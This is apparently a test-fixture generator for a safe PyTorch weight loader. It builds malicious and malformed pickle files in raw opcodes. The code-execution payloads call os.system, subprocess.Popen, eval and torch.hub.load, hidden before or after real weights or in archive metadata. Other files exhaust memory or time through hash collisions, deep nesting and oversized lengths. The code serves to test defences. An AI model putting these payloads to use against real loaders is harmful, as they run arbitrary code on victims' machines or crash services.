"""Pickles that run something, ask for too much, or are none: in torch's two formats, bare, and amid good weights."""

from __future__ import annotations

import pickle
import struct
from collections import OrderedDict
from collections.abc import Iterator
from typing import Any

import numpy as np
from torch import Tensor

from hostile_parts.containers import legacy, pickled, specs_of, zipped
from hostile_parts.maker import Maker

# A pair of a pair of a pair …, each of one value twice: small in memory, and of 2^100 values to whoever walks it.
DOUBLED = b")q\x00" + b"".join(b"h%c\x86q%c" % (n, n + 1) for n in range(100))


def unicode(text: str) -> bytes:
    """Return the opcode that puts a text on the stack."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(function: str, *arguments: bytes) -> bytes:
    """Return opcodes that call ``module name`` with what opcodes put on the stack, and leave the result there."""
    return b"c" + function.replace(" ", "\n").encode() + b"\n(" + b"".join(arguments) + b"tR"


def whole(opcodes: bytes, protocol: int = 2) -> bytes:
    """Return the pickle that leaves what these opcodes leave."""
    return b"\x80" + bytes([protocol]) + opcodes + b"."


def programs(marker: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, opcodes); each runs something, mostly ``touch marker``, when a careless loader reads it."""
    shell, python = unicode(f"touch '{marker}'"), unicode(f"open({marker!r}, 'w').close()")
    argv = b"](" + unicode("touch") + unicode(marker) + b"e"
    system, evil = b"cos\nsystem\n", call("os system", shell)
    named: dict[str, list[bytes]] = {
        "os system": [shell],
        "subprocess Popen": [argv],
        "builtins eval": [python],
        "builtins open": [unicode(marker), unicode("w")],
        "torch.storage _load_from_bytes": [b"B" + struct.pack("<I", len(evil)) + evil],
        "torch.hub load": [unicode("evil/repository"), unicode("model")],
        "torch load": [unicode("../secret")],
        "torch.serialization add_safe_globals": [b"](" + system + b"e"],
        "pickle loads": [b"B" + struct.pack("<I", len(whole(evil))) + whole(evil)],
    }
    for function, arguments in named.items():
        yield function, call(function, *arguments)
    attribute = call("builtins getattr", call("builtins __import__", unicode("os")), unicode("system"))
    yield "import and getattr", attribute + b"(" + shell + b"tR"
    yield "a partial function", call("functools partial", system, shell) + b")R"
    yield "a map", call("builtins list", call("builtins map", system, b"](" + shell + b"e"))
    yield "a key of a mapping", call("collections OrderedDict", b"](](" + unicode("x") + evil + b"ee")
    yield "a tensor's type", call("torch._tensor _rebuild_from_type_v2", system, b"N", b"(" + shell + b"t", b"}")
    yield "STACK_GLOBAL", unicode("os") + unicode("system") + b"\x93(" + shell + b"tR"
    yield "INST", b"(" + shell + b"ios\nsystem\n"
    yield "OBJ", b"(" + system + shell + b"o"
    yield "NEWOBJ", b"csubprocess\nPopen\n(" + argv + b"t\x81}b0" + evil
    yield "NEWOBJ_EX", b"csubprocess\nPopen\n(" + argv + b"t}\x92"
    yield "BUILD", b"ctypes\nSimpleNamespace\n)\x81}(" + unicode("x") + evil + b"ub"
    yield "a dotted name", unicode("pathlib") + unicode("Path.touch") + b"\x93(" + call("pathlib Path", shell) + b"tR"


class ObjectArray:
    """A numpy array of objects, one of which runs something."""

    def __init__(self, shell: str) -> None:
        self.shell = shell

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self.shell,)


def _length(opcode: bytes, length: int, data: bytes = b"x") -> bytes:
    """Return an opcode whose 64-bit length says more than there is."""
    return opcode + struct.pack("<Q", length) + data


def greedy() -> Iterator[tuple[str, bytes]]:
    """Yield (name, pickle) of those that would take all memory, or all time."""
    yield "a text of 2^60 bytes", whole(_length(b"\x8d", 1 << 60), 4)
    yield "a text of 4 GB", whole(b"X\xff\xff\xff\xffx")
    yield "a memo at 2^32 - 1", whole(b"]r\xff\xff\xff\xff")
    yield "a whole number of a million digits", whole(b"I" + b"9" * 1_000_000 + b"\n")
    yield "a long number of a megabyte", whole(b"\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20))
    yield "a key whose hash takes 2^100 steps", whole(b"}" + DOUBLED + b"K\x01s")
    yield "a value that prints as 2^100 letters", whole(DOUBLED)
    yield "a function whose name prints as 2^100 letters", whole(DOUBLED + unicode("f") + b"\x93)R", 4)
    yield "lists in lists, 100,000 deep", whole(b"]" * 100_000 + b"a" * 99_999)
    yield "200,000 marks", whole(b"(" * 200_000)
    yield "a million values", whole(b"](" + b"N" * 1_000_000 + b"e")
    yield "a mapping that holds itself", whole(b"}q\x00" + unicode("model.1.weight") + b"h\x00s")
    multiples = ((number * ((1 << 61) - 1)).to_bytes(10, "little") for number in range(1, 40_001))
    yield "keys that all have one hash", whole(b"}(" + b"".join(b"\x8a\x0a" + one + b"N" for one in multiples) + b"u")
    many = b"](" + b"N" * 200_000 + b"eq\x000](" + b"h\x00" * 200_000 + b"e"
    yield "200,000 references to a list of 200,000", whole(b"}" + unicode("weights") + many + b"s")
    long = b"](" + b"K\x01" * 50_000 + b"e\x85q\x020](" + b"h\x01h\x02R" * 60_000 + b"e"
    yield "60,000 calls with a list of 50,000", whole(b"ctorch\nSize\nq\x010" + long)
    yield "80,000 functions", whole(b"](" + b"".join(b"cm\nf%d\n)R" % n for n in range(80_000)) + b"e")
    long_name = b"cm\n" + b"x" * 10_000_000 + b"\nq\x000"
    yield "60,000 calls of a function with a long name", whole(long_name + b"](" + b"h\x00)R" * 60_000 + b"e")
    begin = unicode("module." * 2_000_000 + "weight")
    yield "a name that begins two million times alike", whole(b"}" + begin + _tensor(b"tQ", b"K\x01") + b"s")


def _tensor(end: bytes, length: bytes) -> bytes:
    storage = b"(" + unicode("storage") + b"ctorch\nFloatStorage\n" + unicode("0") + unicode("cpu") + length + end
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00K\x01\x85K\x01\x85\x89}tR"


def wrong() -> Iterator[tuple[str, bytes]]:
    """Yield (name, pickle) of those that are none."""
    yield "nothing", b""
    yield "no stop", b"\x80\x02}"
    yield "protocol 255", b"\x80\xff}."
    yield "a call of nothing", whole(b"R")
    yield "an odd number of items", whole(b"}(K\x01u")
    yield "no mark", whole(b"K\x01t")
    yield "a memo that is not there", whole(b"h\x07")
    yield "a list for a key", whole(b"}]K\x01s")
    yield "a frame shorter than its opcodes", whole(_length(b"\x95", 1, b"}K\x01K\x01s"), 4)
    yield "an extension", whole(b"\x82\x01")
    yield "a buffer from elsewhere", whole(b"\x97", 5)
    yield "a persistent id of text", whole(b"P0\n")
    yield "a persistent id of two parts", whole(unicode("storage") + b"K\x01\x86Q")
    yield "a persistent id of another kind", whole(b"(" + unicode("module") + b"NNNNtQ")
    yield "a global of ten million letters", whole(b"cos\n" + b"x" * 10_000_000 + b"\n")
    yield "a global with colours", whole(b"c\x1b[31mos\r\x1b[0m\nsystem\n")
    yield "a global that ends nowhere", b"\x80\x02cos"
    yield "a global of numbers", whole(b"K\x01K\x02\x93", 4)
    yield "a text of half characters", whole(b"X\x02\x00\x00\x00\xff\xfe")
    values = {"a list": [1.0, 2.0], "a number": 7, "nothing at all": None, "an empty state": {}, "pairs": ({}, {})}
    for name, value in values.items():
        yield f"{name} for a state", pickle.dumps(value, 2)


def write(maker: Maker, state: OrderedDict[str, Tensor]) -> None:
    """Make them. ``state``: a good network's."""
    for number, (name, opcodes) in enumerate(programs(str(maker.marker))):
        pack = (zipped, legacy)[number % 2]
        maker.add(f"{name}, packed", pack(whole(opcodes)), says=name.split()[1] if "os sys" in name else "")
        maker.add(f"{name}, as a bare pickle", whole(opcodes), file="model.pkl")
    shell = f"touch '{maker.marker}'"
    array = np.array([ObjectArray(shell)], dtype=object)
    maker.add("a numpy array of objects", zipped(pickle.dumps({"model.1.weight": array}, 2)))
    _add_positions(maker, state, call("os system", unicode(shell)))
    for number, (name, data) in enumerate(greedy()):
        maker.add(name, legacy(data) if number % 2 else zipped(data, {"0": bytes(4)}))
    for name, data in wrong():
        maker.add(f"a pickle with {name}", zipped(data))
    maker.add("no magic number", legacy(b"", magic=pickle.dumps(7, 2)))
    endless = whole(b"}" + unicode("model.1.weight") + _tensor(b"NtQ", b"K\x01") + b"s")
    keys = pickle.dumps(["0"], 2)
    maker.add("a storage of 2^62 elements", legacy(endless, keys=keys) + struct.pack("<q", 1 << 62) + bytes(4))
    maker.add("a text pickle", b"(dp0\nS'model.1.weight'\nF0.5\ns.")


def _add_positions(maker: Maker, state: OrderedDict[str, Tensor], evil: bytes) -> None:
    """Code in every place where a loader may look first, or last."""
    specs, storages = specs_of(state)
    for pack, body in ((zipped, pickled(specs)), (legacy, pickled(specs, views=True))):
        maker.add(f"code after weights, {pack.__name__}", pack(body[:-1] + unicode("x") + evil + b"s.", storages))
        maker.add(
            f"code before weights, {pack.__name__}", pack(body[:2] + evil + b"0" + body[2:], storages), says="sys"
        )
    maker.add("a good pickle, then an evil one", zipped(pickled(specs) + whole(evil), storages), refused=False)
    body = pickled(specs, views=True)
    maker.add("code for the magic number", legacy(body, storages, magic=whole(evil)))
    maker.add("code for the system's data", legacy(body, storages, system=whole(evil)))
    maker.add("code for the storages' keys", legacy(body, storages, keys=whole(evil)))
    begin = b"((" + unicode("storage")
    key = begin + b"ctorch\nFloatStorage\n" + evil + unicode("cpu") + b"K\x01tQ"
    maker.add("code for a storage's key", zipped(whole(key), storages), says="system")
    maker.add("code for a storage's kind", zipped(whole(begin[1:] + evil + unicode("0") + b"tQ")), says="system")
    more = {"data.pkl.bak": whole(evil), "code/__init__.py": b"import os", ".data/x.pkl": whole(evil)}
    maker.add("good weights beside records of code", zipped(pickled(specs), storages, more), refused=False)
